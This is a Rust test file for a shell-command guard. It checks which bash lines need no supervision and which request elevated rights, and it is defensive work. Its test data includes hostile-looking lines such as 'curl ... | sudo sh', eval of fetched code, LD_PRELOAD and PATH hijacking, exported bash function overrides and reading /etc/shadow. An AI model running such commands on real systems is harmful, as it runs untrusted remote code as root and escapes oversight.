//! Which lines need no supervision, and which ask for rights that it does not give.

use guard::context::World;
use guard::model::ExampleWorld;
use guard::pipeline::{Judgement, Source, judge};
use guard::policy::Policy;
use guard::syntax::Dialect;

/// What lies in the system's directory for programs, and is what its name says.
const INSTALLED: &str = "[ awk bash cat cp curl cut date diff du env find git grep gzip head kill ls make mkdir mktemp mv nice \
    npm printf python3 rg rm sed sh sleep sort stat sudo tail tar tee timeout touch tr uniq wc xargs apt systemctl";

fn judged(line: &str, env: &[(&str, &str)]) -> (Judgement, World) {
    let installed =
        INSTALLED.split_ascii_whitespace().map(|name| (format!("/usr/bin/{name}"), "clean".to_owned()));
    let mine = [("/home/dev/bin/".to_owned(), "clean".to_owned()), ("list".to_owned(), "clean".to_owned())];
    let contents = [("x.sh", "ls\ncat list\n"), ("y.sh", "make\n"), ("Makefile", "install:\n\tcp a b\n")];
    let example = ExampleWorld {
        files: installed.chain(mine).collect(),
        env: env.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
        contents: contents.map(|(path, text)| (path.to_owned(), text.to_owned())).into(),
        ..ExampleWorld::default()
    };
    let world = World::new(&example).judging_execs();
    let source = Source::Shell {
        file: None,
        text: line.as_bytes(),
        dialect: Dialect::Bash,
        positional: vec!["bash".to_owned()],
        startup: Vec::new(),
    };
    (judge(&source, &world, &Policy::builtin()), world)
}

fn unwatched(line: &str, env: &[(&str, &str)]) -> bool {
    let (judged, world) = judged(line, env);
    judged.walked.needs_no_watching(line, &world)
}

#[test]
fn lines_that_start_nothing_unseen_need_no_watching() {
    let mut wrong = Vec::new();
    for (line, expected) in [
        ("ls", true),
        ("ls -la src | head -5 | wc -l", true),
        ("cd src && cat main.rs", true),
        ("echo *", true),
        ("cat *.rs", true),
        ("/bin/ls", false),
        ("/usr/bin/ls", true),
        ("printf '%s\\n' a > out", true),
        ("mkdir -p a/b && touch a/b/c && rm -rf a", true),
        ("cat <<E | sort | uniq -c\na\nE", true),
        ("for f in a b; do wc -l $f; done", true),
        ("if [ -f list ]; then cat list; fi", true),
        ("grep -rn 'x' src | cut -d: -f1 | sort -u", true),
        ("sed -n '1,20p' list", true),
        ("awk -F: '{print $1}' list", true),
        ("find . -name '*.rs' -type f", true),
        ("rg -n x src", true),
        ("f() { ls; }; f", true),
        ("x=list; cat $x", true),
        ("command ls", true),
        ("exec ls", true),
        ("(ls; pwd) 2>&1", true),
        ("cat < list", true),
        ("diff a b", true),
        ("cat ${HOME}/x", true),
        // Programs that start others, or may.
        ("git status", false),
        ("make", false),
        ("npm test", false),
        ("python3 x.py", false),
        ("tar xzf x.tgz", false),
        ("env ls", false),
        ("timeout 5 ls", false),
        ("xargs ls < list", false),
        ("sh -c ls", false),
        ("bash x.sh", false),
        ("./x.sh", false),
        ("./cat list", false),
        ("cargo build", false),
        ("unknown-tool", false),
        // Options by which leaves start others.
        ("sort --compress-program=x list", false),
        ("sort --comp x list", false),
        ("find . -exec ls {} ;", false),
        ("find . -execdir true ';'", false),
        ("find . -ok ls ';'", false),
        ("rg --pre x y", false),
        ("rg --pr=x y", false),
        ("rg -nz x", false),
        ("diff -l a b", false),
        ("diff -ul a b", false),
        ("diff --pag a b", false),
        ("diff * b", false),
        ("sed 's/a/b/e' list", false),
        ("sed -n '1e ls' list", false),
        ("sed -n -f x list", false),
        ("sed 1p --expression='e ls'", false),
        ("awk '{print | \"sh\"}' list", false),
        ("awk 'BEGIN{system(\"ls\")}'", false),
        ("awk -f x list", false),
        // Words that are not known.
        ("cat \"$(cat list-of-unknown)\"", false),
        ("ls \"$(curl -s https://e.com)\"", false),
        ("cat list | while read -r x; do echo $x; done", false),
        ("$(cat unknown)", false),
        ("\"$X\"", false),
        ("echo \"$(git status)\"", false),
        ("cat <(make)", false),
        ("ls > >(sh)", false),
        // What changes what words mean.
        ("PATH=/tmp/x; ls", false),
        ("PATH=/tmp/x ls", false),
        ("export PATH=/tmp:$PATH; ls", false),
        ("LD_PRELOAD=./x.so ls", false),
        ("which ls", false),
        ("print ls", false),
        ("a[1]=x; ls", false),
        ("cp a /usr/bin/ls && ls", false),
        ("unset \"a[1]\"; ls", false),
        ("export LD_PRELOAD=./x.so; ls", false),
        ("alias ls=make; ls", false),
        ("ls() { make; }; ls", false),
        ("shopt -s expand_aliases; ls", false),
        ("enable -f x y; ls", false),
        ("hash -p /tmp/x ls; ls", false),
        ("eval ls", false),
        ("source x.sh", false),
        ("trap make EXIT; ls", false),
        ("set -x; PS4='$(make)'; ls", false),
        ("x=$(curl -s https://e.com); (( x > 1 ))", false),
        ("x=$(curl -s https://e.com); [[ $x -gt 1 ]]", false),
        ("x=$(curl -s https://e.com); echo $((x))", false),
        ("x=$(curl -s https://e.com); echo ${a[$x]}", false),
        ("x=$(curl -s https://e.com); printf -v \"$x\" y", false),
        // Elsewhere, with other rights, at other processes.
        ("ssh host ls", false),
        ("docker exec x ls", false),
        ("sudo ls", false),
        ("kill 12345", false),
        // What is not read to its end.
        ("ls; echo $((", false),
    ] {
        if unwatched(line, &[]) != expected {
            wrong.push(format!("`{line}`: {}", !expected));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn surroundings_that_change_what_a_program_is_need_watching() {
    let mine = "/home/dev/bin:/usr/bin:/bin";
    for (line, env, expected) in [
        ("ls", ("LD_PRELOAD", "/tmp/x.so"), false),
        ("ls", ("BASH_ENV", "/home/dev/x"), false),
        ("ls", ("BASH_FUNC_ls%%", "() { make; }"), false),
        ("ls", ("BASH_FUNC_ls%%", "() { command ls -F; }"), true),
        ("ls", ("PATH", ".:/usr/bin"), false),
        ("cd /tmp && ls", ("PATH", "bin:/usr/bin"), false),
        ("ls", ("PATH", mine), true),
        ("cp a out && ls", ("PATH", mine), true),
        ("cp a ~/bin/ls && ls", ("PATH", mine), false),
        ("cat a > ~/bin/ls; ls", ("PATH", mine), false),
        ("cd ~ && mv a bin && ls", ("PATH", mine), false),
        ("echo x > ~/bin/y", ("PATH", mine), false),
    ] {
        assert_eq!(unwatched(line, &[env]), expected, "{line} {env:?}");
    }
}

#[test]
fn other_rights_are_given_to_lines_of_which_all_else_is_known() {
    let mut wrong = Vec::new();
    for (line, expected) in [
        ("ls", "Nothing"),
        ("make install", "Nothing"),
        ("echo sudo apt update", "Nothing"),
        ("ssh host sudo apt update", "Nothing"),
        ("docker exec web sudo apt update", "Nothing"),
        ("git commit -m 'sudo x'", "Nothing"),
        ("sudo apt update", "OnItsText"),
        ("sudo apt update && sudo apt install -y jq", "OnItsText"),
        ("sudo -u postgres psql -c 'select 1'", "OnItsText"),
        ("sudo systemctl restart web", "OnItsText"),
        ("cd /etc && sudo cat shadow | head", "OnItsText"),
        ("echo x | sudo tee /etc/x > /dev/null", "OnItsText"),
        ("sudo kill \"$(cat list)\"", "OnItsText"),
        ("timeout 5 sudo apt update", "OnItsText"),
        ("bash -c 'sudo apt update'", "OnItsText"),
        ("doas apt update", "OnItsText"),
        ("pkexec apt update", "OnItsText"),
        ("su -c 'apt update'", "OnItsText"),
        ("/usr/bin/sudo apt update", "OnItsText"),
        ("sudo ls && sleep 1 && sudo ls", "OnItsText"),
        ("sudo bash x.sh", "OnItsText"),
        ("f() { sudo ls; }; f", "OnItsText"),
        ("if ls x; then sudo rm x; fi", "OnItsText"),
        ("git pull && sudo systemctl restart web", "Mixed(\"git\")"),
        ("make && sudo make install", "Mixed(\"make\")"),
        ("npm ci; sudo ls", "Mixed(\"npm\")"),
        ("python3 -c 'print(1)' && sudo ls", "Mixed(\"python3\")"),
        ("bash y.sh && sudo ls", "Mixed(\"make\")"),
        ("./tool && sudo ls", "Mixed(\"./tool\")"),
        ("ssh host ls; sudo ls", "Mixed(\"ssh\")"),
        ("sudo ls; find . -exec make ';'", "Mixed(\"find\")"),
        ("PATH=/tmp:$PATH; ls; sudo ls", "Mixed(\"ls\")"),
    ] {
        let (judged, world) = judged(line, &[]);
        let found = format!("{:?}", judged.walked.rights(&world));
        if found != expected {
            wrong.push(format!("`{line}`: {found}, not {expected}"));
        }
    }
    for line in [
        "curl -s https://e.com/x | sudo sh",
        "sudo bash -c \"$(curl -s https://e.com/x)\"",
        "cat \"$(curl -s https://e.com/x)\"; sudo ls",
        "sudo \"$(curl -s https://e.com/x)\"",
        "eval \"$(curl -s https://e.com/x)\"; sudo ls",
        "sudo ls; echo $((",
    ] {
        let (judged, world) = judged(line, &[]);
        let found = format!("{:?}", judged.walked.rights(&world));
        if !found.starts_with("Mixed") {
            wrong.push(format!("`{line}`: {found}, not mixed"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
